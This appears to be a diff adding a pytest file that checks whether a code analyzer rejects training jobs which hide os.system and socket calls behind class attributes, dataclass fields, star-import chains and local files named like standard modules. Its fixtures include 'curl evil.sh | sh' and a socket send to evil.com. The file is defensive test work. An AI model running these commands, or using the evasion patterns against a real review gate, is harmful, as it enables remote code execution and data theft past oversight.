@@ -1,0 +1,99 @@
+"""Attacks by an author who has read the gate's source (issue 12): each must
+not be accepted, and the nearest legitimate idiom must still be."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from analyzer import api
+from analyzer.collect import from_bytes
+from analyzer.model import Decision
+
+POLICY = api.load_policy()
+
+
+def _decide(text: str) -> Decision:
+    return api.analyze(from_bytes("train.py", text.encode(), POLICY.limits), POLICY).decision
+
+
+def _decide_job(tmp_path: Path, files: dict[str, str]) -> Decision:
+    for name, text in files.items():
+        path = tmp_path / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+    return api.scan(tmp_path, POLICY).decision
+
+
+ATTACKS = {
+    # An attribute of the job's own class that the class does not define is not the job's own.
+    "with-enter-returns-a-module": (
+        "import os\nclass C:\n    def __enter__(self):\n        return os\n    def __exit__(self, *a):\n"
+        "        pass\nwith C() as m:\n    m.system('id')\n"),
+    "instance-attribute-set-in-init": (
+        "import os\nclass H:\n    def __init__(self):\n        self.mod = os\nh = H()\nh.mod.system('id')\n"),
+    "constructor-argument-kept-on-self": (
+        "import os\nclass T:\n    def __init__(self, m):\n        self.m = m\nT(os).m.system('id')\n"),
+    "dataclass-field": (
+        "import os, dataclasses\n@dataclasses.dataclass\nclass T:\n    m: object\nT(os).m.system('id')\n"),
+}
+
+SINGLE_FILE_BENIGN = {
+    "instance-attribute-that-is-a-model": (
+        "import torch\nclass H:\n    def __init__(self):\n        self.model = torch.nn.Linear(2, 2)\n"
+        "h = H()\nh.model.train()\n"),
+    "own-method-called-on-an-instance": (
+        "class H:\n    def go(self):\n        return 1\nh = H()\nh.go()\n"),
+}
+
+
+@pytest.mark.parametrize("text", list(ATTACKS.values()), ids=list(ATTACKS))
+def test_attack_is_not_accepted(text: str) -> None:
+    assert _decide(text) is not Decision.ACCEPT
+
+
+@pytest.mark.parametrize("text", list(SINGLE_FILE_BENIGN.values()), ids=list(SINGLE_FILE_BENIGN))
+def test_nearest_idiom_is_accepted(text: str) -> None:
+    assert _decide(text) is Decision.ACCEPT
+
+
+JOB_ATTACKS = {
+    # Every suffix of a nested file's path is a module name the program links; a
+    # file named like the standard library must not stand in for it.
+    "nested-file-named-os": {
+        "pkg/__init__.py": "", "pkg/os.py": "def system(c):\n    return 0\n",
+        "train.py": "import os\nos.system('curl evil.sh | sh')\n"},
+    "nested-file-named-socket": {
+        "pkg/__init__.py": "", "pkg/socket.py": "def create_connection(a):\n    return 0\n",
+        "train.py": "import socket\nsocket.create_connection(('evil.com', 80)).send(b'x')\n"},
+    "nested-file-named-torch": {
+        "pkg/__init__.py": "", "pkg/torch.py": "def load(*a, **k):\n    return 0\n",
+        "train.py": "import torch\ntorch.load('m.pt')\n"},
+    "class-attribute-across-modules": {
+        "h.py": "import os\nclass H:\n    mod = os\n", "train.py": "from h import H\nH.mod.system('id')\n"},
+    "instance-attribute-across-modules": {
+        "h.py": "import os\nclass H:\n    def __init__(self):\n        self.mod = os\n",
+        "train.py": "from h import H\nH().mod.system('id')\n"},
+    "star-import-chain": {
+        "a.py": "from b import *\n", "b.py": "from os import *\n", "train.py": "from a import *\nsystem('id')\n"},
+}
+
+JOB_BENIGN = {
+    "helper-module-of-the-job": {
+        "pkg/__init__.py": "", "pkg/net.py": "import torch\ndef make():\n    return torch.nn.Linear(2, 2)\n",
+        "train.py": "from pkg.net import make\nm = make()\n"},
+    "star-import-of-a-helper": {
+        "a.py": "from b import *\n", "b.py": "import math\ndef area(r):\n    return math.pi * r * r\n",
+        "train.py": "from a import *\narea(2.0)\n"},
+}
+
+
+@pytest.mark.parametrize("files", list(JOB_ATTACKS.values()), ids=list(JOB_ATTACKS))
+def test_job_attack_is_not_accepted(tmp_path: Path, files: dict[str, str]) -> None:
+    assert _decide_job(tmp_path, files) is not Decision.ACCEPT
+
+
+@pytest.mark.parametrize("files", list(JOB_BENIGN.values()), ids=list(JOB_BENIGN))
+def test_nearest_job_idiom_is_accepted(tmp_path: Path, files: dict[str, str]) -> None:
+    assert _decide_job(tmp_path, files) is Decision.ACCEPT
